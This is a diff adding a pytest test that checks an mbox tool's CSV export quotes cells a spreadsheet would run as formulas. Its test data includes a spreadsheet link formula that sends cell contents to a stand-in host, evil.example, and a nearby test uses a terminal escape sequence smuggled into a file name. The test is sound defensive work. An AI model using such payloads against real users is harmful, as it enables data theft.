@@ -271,3 +271,20 @@ def test_an_error_quoting_what_it_was_given_shows_no_control_character(
     assert main(["stats", str(tmp_path / "no\x1b]0;owned\x07.mbox")]) == 2
     err = capsys.readouterr().err
     assert "\x1b" not in err and "\x07" not in err and "no\\x1b]0;owned\\x07.mbox" in err
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # a subject or name that starts like a formula runs in a spreadsheet opening the CSV
+    import csv
+
+    subject = '[PATCH] =HYPERLINK("https://evil.example/?"&A1,"fix")'
+    path = tmp_path / "formula.mbox"
+    path.write_bytes(mbox(mail(subject, sender="@SUM(1+1) <eve@evil.example>")))
+    assert main(["series", str(path), "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["title"] == "'" + subject.removeprefix("[PATCH] ")
+    assert row["author"] == "'@SUM(1+1) <eve@evil.example>" and row["version"] == "1"
+    assert main(["series", str(path), "--format", "json"]) == 0  # data formats: as sent
+    assert json.loads(capsys.readouterr().out)[0]["title"] == subject.removeprefix("[PATCH] ")
